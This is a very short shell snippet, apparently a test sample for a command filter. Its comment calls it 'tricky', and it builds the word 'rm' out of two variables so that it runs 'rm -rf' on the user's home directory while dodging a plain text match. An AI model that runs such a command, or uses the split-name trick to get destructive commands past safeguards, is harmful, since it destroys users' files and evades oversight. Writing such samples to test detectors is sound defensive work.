# tricky: the command is put together
a=r; b=m; f="-rf"
"$a$b" $f "$HOME"
